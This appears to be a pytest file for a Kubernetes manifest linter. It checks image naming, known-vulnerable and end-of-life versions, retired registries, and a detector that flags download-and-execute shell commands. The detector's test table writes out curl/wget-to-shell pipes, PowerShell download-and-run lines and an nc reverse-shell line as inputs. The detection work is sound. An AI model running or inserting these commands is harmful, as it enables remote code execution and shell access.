"""Images by their names, versions and digests; tables that must hold together; downloads in commands."""

from __future__ import annotations

import pytest
from harness import containers, findings, messages, operations, pod
from hypothesis import given
from hypothesis import strategies as st

from rules import manifest
from rules.cluster import Cluster
from rules.images import ended, flaws, registries, scripts, versions
from rules.images.chosen import full_name, is_called, official_name
from rules.images.download_and_execute import download_and_execute as download
from rules.images.image_digest_malformed import complaint
from rules.images.image_end_of_life import image_end_of_life as old
from rules.images.image_floating_tag import image_floating_tag as floating
from rules.images.image_known_vulnerable_version import image_known_vulnerable_version as vulnerable
from rules.images.image_retired_registry import image_retired_registry as retired
from rules.search import search
from rules.workloads import images

RULES = [floating, vulnerable, retired, old]


def web(image: str) -> str:
    return pod(f"{{containers: [{{name: web, image: '{image}'}}]}}")


@pytest.mark.parametrize(
    ("name", "full"),
    [
        ("nginx", "docker.io/library/nginx"),
        ("library/nginx", "docker.io/library/nginx"),
        ("docker.io/nginx", "docker.io/library/nginx"),
        ("index.docker.io/library/nginx", "docker.io/library/nginx"),
        ("mirror.gcr.io/library/nginx", "docker.io/library/nginx"),
        ("public.ecr.aws/docker/library/nginx", "docker.io/library/nginx"),
        ("bitnami/redis", "docker.io/bitnami/redis"),
        ("localhost/nginx", "localhost/nginx"),
        ("registry:5000/nginx", "registry:5000/nginx"),
        ("registry.example/nginx", "registry.example/nginx"),
    ],
)
def test_a_name_has_one_spelling(name: str, full: str) -> None:
    assert full_name(name) == full


def test_mirrors_keep_the_end_of_a_name() -> None:
    assert official_name("registry.example:5000/library/node") == "node"
    assert official_name("registry.example/node") == ""
    assert is_called("registry.example/mirror/grafana/grafana", "grafana/grafana")
    assert not is_called("registry.example/mygrafana/grafana", "grafana/grafana")
    assert not is_called("registry.example/grafana/grafana-image-renderer", "grafana/grafana")


@pytest.mark.parametrize(
    ("tag", "numbers", "rest"),
    [
        ("1.10.0", (1, 10, 0), ""),
        ("v1.9.4", (1, 9, 4), ""),
        ("3.8-slim", (3, 8), "-slim"),
        ("7.4.2-alpine3.20", (7, 4, 2), "-alpine3.20"),
        ("9.2.3_1", (9, 2, 3), "_1"),
        ("1.2.3.Final", (1, 2, 3), ".Final"),
        ("18", (18,), ""),
    ],
)
def test_versions_in_tags(tag: str, numbers: tuple[int, ...], rest: str) -> None:
    found = versions.parse(tag)
    assert found is not None
    assert (found.numbers, found.rest) == (numbers, rest)


@pytest.mark.parametrize("tag", ["", "latest", "main-1.2.3", "v", "1.2.3-", "x1.2", "1.2.3 4", "१.२"])
def test_other_tags_say_no_version(tag: str) -> None:
    assert versions.parse(tag) is None


def numbered(flaw: flaws.Flaw) -> list[versions.Numbers]:
    return [versions.numbers_of(text) for text in (flaw.first, flaw.last, flaw.fixed)]


@pytest.mark.parametrize("flaw", flaws.FLAWS, ids=lambda flaw: f"{flaw.ending} {flaw.last}")
def test_a_repaired_release_has_none_of_the_known_flaws(flaw: flaws.Flaw) -> None:
    first, last, fixed = numbered(flaw)
    assert first <= last < fixed
    assert flaw.link.startswith("https://")
    assert flaw.cve.startswith("CVE-")
    version = versions.parse(flaw.fixed)
    assert version is not None
    assert [other for other in flaws.FLAWS if other.ending == flaw.ending and flaws.has(other, version)] == []


@given(st.sampled_from(flaws.FLAWS), st.tuples(*[st.integers(0, 500)] * 3))
def test_a_fix_moves_up_inside_of_the_minor_version_or_is_not_made(
    flaw: flaws.Flaw, numbers: tuple[int, int, int]
) -> None:
    version = versions.Version("v", numbers, "")
    new = flaws.repaired([flaw], version) if flaws.has(flaw, version) else None
    assert new is None or (new > numbers and new[:2] == numbers[:2])


def test_versions_are_compared_by_number_and_candidates_with_care() -> None:
    assert messages(vulnerable, web("grafana/grafana:8.10.0")) == []
    assert len(messages(vulnerable, web("jenkins/jenkins:2.99.1"))) == 1
    assert messages(vulnerable, web("grafana/grafana:9.2.0-beta1")) == []
    assert len(messages(vulnerable, web("registry.k8s.io/ingress-nginx/controller:v1.9.0-beta.0"))) == 1
    assert operations(vulnerable, web("argoproj/argocd:v3.0.12"))[0]["value"] == "argoproj/argocd:v3.0.14"


def test_the_lines_about_ends_are_in_order() -> None:
    seen: dict[str, versions.Numbers] = {}
    for branch in ended.BRANCHES:
        numbers = versions.numbers_of(branch.version)
        assert seen.get(branch.image, (-1,)) < numbers
        seen[branch.image] = numbers
        assert branch.link.startswith("https://")
        assert ended.end(branch.image, branch.version) is not None
    for program in ended.PROGRAMS:
        assert ended.end(f"registry.example/{program.ending}", "") is not None


@pytest.mark.parametrize(
    ("image", "is_old"),
    [
        ("node:0.12.18", True),
        ("node:20.1", True),
        ("node:21-slim", True),
        ("node:22", False),
        ("node:2", True),
        ("node:lts", False),
        ("python:3.9.18", True),
        ("python:3.10", False),
        ("python:3", False),
        ("alpine:3", False),
        ("alpine:3.9", True),
        ("alpine:3.20.1", False),
        ("alpine:20240315", False),
        ("ubuntu:focal", True),
        ("ubuntu:22.04", False),
        ("ubuntu:bionic-20230530", True),
        ("debian:bullseye", False),
        ("mysql:8.0.36", True),
        ("mysql:8.4", False),
        ("mysql:8", False),
        ("registry.example/python:3.7", False),
        ("registry.example/library/python:3.7", True),
        ("registry.example/heapster-tools", False),
        ("registry.k8s.io/heapster-amd64:v1.5.4", True),
    ],
)
def test_ends(image: str, is_old: bool) -> None:
    assert bool(messages(old, web(image))) is is_old


def test_every_registry_of_the_table_is_found() -> None:
    for line in registries.RETIRED:
        assert line.link.startswith("https://")
        parsed = images.parse(f"{line.start}web:1.4.2")
        assert parsed is not None
        assert registries.retired(parsed) is line
        other = images.parse(f"registry.example/{line.start}web:1.4.2")
        assert other is not None
        assert registries.retired(other) is None


def test_what_a_kustomization_or_flux_sets_is_not_judged() -> None:
    for image in ("k8s.gcr.io/pause:main", "grafana/grafana:8.3.0", "node:12"):
        text = web(image)
        (document,) = manifest.parse(text)
        cluster = Cluster.of([document], images=[image.partition(":")[0]])
        assert list(search(document, RULES, cluster)) == []
    text = (
        "apiVersion: v1\nkind: Pod\nmetadata: {name: web}\nspec:\n  containers:\n  - name: web\n"
        '    image: k8s.gcr.io/web:main # {"$imagepolicy": "flux-system:web"}\n'
    )
    assert [hit for rule in RULES for hit in findings(rule, text)] == []


@given(st.text(alphabet="0123456789abcdef", min_size=60, max_size=68))
def test_a_digest_has_exactly_its_digits(digits: str) -> None:
    assert (complaint(f"sha256:{digits}") == "") is (len(digits) == 64)


SHELL = "runs a script that it downloads when it starts"
FILE = "runs a file that it downloads when it starts"
INSTALLS = "installs packages when it starts"
LINES = {
    "curl | sh": [SHELL],
    "curl -s https://a.example/x|bash -s -- --yes": [SHELL],
    "curl -s https://a.example/x | tee /tmp/log | /bin/sh": [SHELL],
    "wget -qO- https://a.example/x | python3": [SHELL],
    "wget -qO- https://a.example/x | python3 -": [SHELL],
    'sh -c "$(curl -fsSL https://a.example/x)"': [SHELL],
    "source <(curl -s https://a.example/x)": [SHELL],
    ". <(curl -s https://a.example/x)": [SHELL],
    "curl -s https://a.example/x | sudo bash": [SHELL],
    "curl -s https://a.example/x | sh > /dev/null 2>&1": [SHELL],
    "curl -s 'https://a.example/x?a=1&b=2' | sh": [SHELL],
    "powershell -c iex (iwr -useb https://a.example/x.ps1)": [SHELL],
    "IEX ((New-Object Net.WebClient).DownloadString('https://a.example/x.ps1'))": [SHELL],
    "irm https://a.example/x.ps1 | iex": [SHELL],
    "Invoke-WebRequest https://a.example/x.json -OutFile x.json": [],
    "curl -sLo /tmp/x.sh https://a.example/x.sh && sh /tmp/x.sh": [FILE],
    "wget -O run.sh http://a.example/run.sh; chmod +x run.sh; ./run.sh": [FILE],
    "wget https://a.example/i.sh\nbash ./i.sh --yes": [FILE],
    "curl -LO https://a.example/v1.2/kubectl && chmod a+x kubectl": [FILE],
    "curl -O -L 'https://a.example/k?a=1&b=2'; sudo chmod 755 k": [FILE],
    "curl -s https://a.example/x > /tmp/m; /tmp/m": [FILE],
    "wget -qO/tmp/k https://a.example/k; python3 -u /tmp/k": [FILE],
    "curl -LO https://a.example/k && echo 'ab  k' | sha256sum -c && chmod +x k": [],
    "curl -LO https://a.example/k && chmod +x k && sha256sum -c sums": [FILE],
    "wget -q https://a.example/k; gpg --verify k.asc k && sh k": [],
    "curl -o data.json https://a.example/d.json && python app.py data.json": [],
    "curl -o /etc/x.conf https://a.example/x.conf && chmod 644 /etc/x.conf": [],
    "curl -o /tmp/a https://a.example/a; sh /tmp/ab": [],
    "curl -sXPOST https://a.example/run.sh; sh run.sh": [],
    "wget -qO- https://a.example/run.sh; sh run.sh": [],
    "wget -O - https://a.example/run.sh; sh run.sh": [],
    "wget -q https://a.example/health -O /dev/null; /dev/null": [],
    "curl -s https://a.example/x & echo a | sh": [],
    "curl -s https://a.example/x | python3 -c 'import json'": [],
    "curl -s https://a.example/x | node -e 'x'": [],
    "curl -s https://a.example/x | grep sh": [],
    "curl -s https://a.example/x.sh": [],
    "curl -s https://a.example/x; echo a | sh": [],
    "curl -s https://a.example/x || sh": [],
    "curl -s https://a.example/x | sh.exe-list": [],
    "printf 'curl | sh'": [],
    "apk add --no-cache curl": [INSTALLS],
    "apk --no-cache add curl": [INSTALLS],
    "apt-get -qq -y install curl": [INSTALLS],
    "apt-get update": [],
    "pip3 install shop": [INSTALLS],
    "pip install --no-index shop": [],
    "npm i": [INSTALLS],
    "npm init": [],
    "npm run install-hooks": [],
    "kubectl -n shop apply -f https://a.example/x.yaml": ["applies a manifest that it downloads"],
    "kubectl apply -k github.com/shop/all": ["applies a manifest that it downloads"],
    "kubectl apply -f x.yaml # https://a.example": [],
    "nc -lvp 80": [],
    "nc 203.0.113.7 4444 -e /bin/sh": ["opens a shell to whoever answers at another address"],
    "timeout 1 bash -c '</dev/tcp/db/5432'": [],
}


@pytest.mark.parametrize(("line", "said"), LINES.items(), ids=LINES)
def test_lines_of_shell(line: str, said: list[str]) -> None:
    assert [found.said for found in scripts.actions(line)] == said


def test_a_command_is_looked_at_as_a_whole_too_and_each_thing_is_said_once() -> None:
    text = containers("command: [apt-get, install, -y, curl]", "args: ['curl -s u | sh', 'curl -s v | sh']")
    assert messages(download, text) == [f'container "a" {INSTALLS}', f'container "b" {SHELL}']


LONG = {
    "downloads": "curl " * 18_000,
    "pipes": "curl |" * 15_000,
    "pipes and words": "curl a | " * 10_000 + "sh-",
    "installs": "apt " + "-y " * 30_000,
    "kubectl": "kubectl apply " * 7_000,
    "quotes": "echo '" * 15_000,
    "shells": "bash -i " * 12_000,
    "breaks": "\\\n" * 45_000,
    "files": "curl -o a " * 10_000,
    "addresses": "wget x://a/\n" * 8_000 + "sudo " * 2_000,
    "powershell": "iex irm " * 12_000,
}


@pytest.mark.usefixtures("hang_guard")
@pytest.mark.parametrize("text", LONG.values(), ids=LONG)
def test_no_script_takes_long(text: str) -> None:
    list(scripts.actions(text))
